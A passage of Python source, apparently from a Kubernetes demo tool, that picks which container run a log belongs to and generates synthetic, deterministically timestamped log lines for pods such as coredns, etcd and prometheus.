    for key in ("coredns", "etcd", "kube-apiserver", "kube-controller-manager", "kube-scheduler",
                "kube-proxy",
                "metrics-server", "node-exporter", "prometheus"):
        if key in image:
            return _STORIES[key]
    return _STORIES["generic"]


def _instance(pod: dict[str, Any], container: str, previous: bool, now: float) -> _Instance | None:
    """The container run the log is about, or None when there is no such log."""
    if not (pod.get("spec") or {}).get("nodeName"):
        return None
    # Init containers have logs too (kubectl logs -c <init container>), under their own status list.
    spec = next((c for key in ("initContainers", "containers") for c in pod["spec"].get(key) or []
                 if c.get("name") == container), None)
    if spec is None:
        return None
    pod_status = pod.get("status") or {}
    status = next((s for key in ("initContainerStatuses", "containerStatuses")
                   for s in pod_status.get(key) or [] if s.get("name") == container), None)
    if status is None:
        return None
    state = status.get("state") or {}
    last = (status.get("lastState") or {}).get("terminated")
    restarts = int(status.get("restartCount") or 0)
    if previous or "waiting" in state:
        # A waiting container has no log of its own yet; like the kubelet, show the last run's.
        if not last:
            return None
        run, reason, exit_code, restart_index = last, last.get("reason") or "Error", last.get("exitCode"), \
            max(restarts - 1, 0)
        end = _time(last.get("finishedAt"))
    elif "terminated" in state:
        run = state["terminated"]
        reason, exit_code, restart_index = run.get("reason") or "Completed", run.get("exitCode"), restarts
        end = _time(run.get("finishedAt"))
    elif "running" in state:
        run, reason, exit_code, restart_index = state["running"], None, None, restarts
        end = now
    else:
        return None
    start = _time(run.get("startedAt"))
    if start is None or end is None:
        return None
    metadata = pod.get("metadata") or {}
    namespace, name = str(metadata.get("namespace", "")), str(metadata.get("name", ""))
    return _Instance(
        pod=pod, namespace=namespace, pod_name=name, container=container, image=str(spec.get("image", "")),
        start=start, end=min(end, now), terminated_reason=reason, exit_code=exit_code, restart=restart_index,
        seed=_stable_seed(namespace, name, container, str(restart_index), str(int(start))),
        pod_ip=str((pod.get("status") or {}).get("podIP", "")), node=str(pod["spec"].get("nodeName", "")),
        extra={"host_ip": str((pod.get("status") or {}).get("hostIP", ""))},
    )


def _body_time(inst: _Instance, step: float, k: int) -> float:
    # jitter in [0, 0.8 * step): line k stays inside its own slot, so times are strictly ascending
    return inst.start + (k + (_mix(inst.seed ^ 0x5EED, k) % 800_000) / 1_000_000) * step


def demo_log_lines(pod: dict[str, Any], container: str, previous: bool, now: datetime, *,
                   tail_lines: int | None = None, since: datetime | None = None) -> list[LogLine] | None:
    """The log of one container instance as ascending (timestamp, line) pairs.

    previous=False: the current run (for a container waiting in CrashLoopBackOff, the last run, as the
    kubelet shows). previous=True: the last terminated run, or None when there was none. None also when
    the container does not exist or never started (e.g. a Pending pod). At most MAX_LINES lines (or
    `tail_lines`), none before `since`; only the returned lines are computed.
    """
    moment = now.timestamp()
    inst = _instance(pod, container, previous, moment)
    if inst is None:
        return None
    if inst.end < inst.start:
        return []
    limit = MAX_LINES if tail_lines is None else max(0, min(tail_lines, MAX_LINES))
    if limit == 0:
        return []
    story = _story_for(container, inst.image)
    step = story.step

    ending_texts = story.ending(inst) if (inst.terminated_reason and story.ending) else []
    ending = [(inst.end - (len(ending_texts) - i) * _ENDING_SPACING, text)
              for i, text in enumerate(ending_texts)]
    body_end = inst.end - (0.1 if ending else 0.0)

    last_k = math.floor((body_end - inst.start) / step)
    while last_k >= 1 and _body_time(inst, step, last_k) > body_end:
        last_k -= 1
    first_k = max(1, last_k - (limit - len(ending)) + 1)
    since_ts = since.timestamp() if since is not None else None
    if since_ts is not None:
        first_k = max(first_k, math.floor((since_ts - inst.start) / step) - 1)

    lines: list[tuple[float, str]] = []
    if first_k <= 1:
        startup = story.startup(inst)
        lines.extend((inst.start + i * _STARTUP_SPACING, text) for i, text in enumerate(startup)
                     if inst.start + i * _STARTUP_SPACING <= inst.end)
    for k in range(first_k, last_k + 1):
        t = _body_time(inst, step, k)
        lines.append((t, story.body(inst, k, t)))
    lines.extend(ending)
    if since_ts is not None:
        lines = [line for line in lines if line[0] >= since_ts]
    return [(_utc(t), text) for t, text in lines[-limit:]]
